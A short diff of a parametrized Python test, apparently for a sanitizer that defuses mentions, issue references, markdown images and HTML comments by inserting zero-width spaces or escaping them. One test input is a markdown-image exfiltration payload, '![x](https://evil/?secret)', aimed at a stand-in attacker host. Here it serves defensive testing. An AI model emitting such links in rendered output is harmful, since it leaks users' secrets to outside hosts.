@@ -28,9 +28,9 @@ def test_every_reason_that_is_given_has_its_sentence():
     ("said", "harmless"),
     [
         ("thanks @alice", "thanks @\u200balice"),
-        ("fixes #12", "fixes\u200b #12"),
-        ("Closes YOU-7", "Closes\u200b YOU-7"),
-        ("![x](https://evil/?secret)", "\\![x](https://evil/?secret)"),
+        ("fixes #12", "fixes\u200b #\u200b12"),
+        ("Closes YOU-7", "Closes\u200b YOU-\u200b7"),
+        ("![x](https://evil/?secret)", "!\u200b[x]\u200b(https:\u200b//evil/?secret)"),
         ("<!-- callboard panel -->", "&lt;!-- callboard panel -->"),
         ("mail me: a@b.c", "mail me: a@b.c"),
     ],
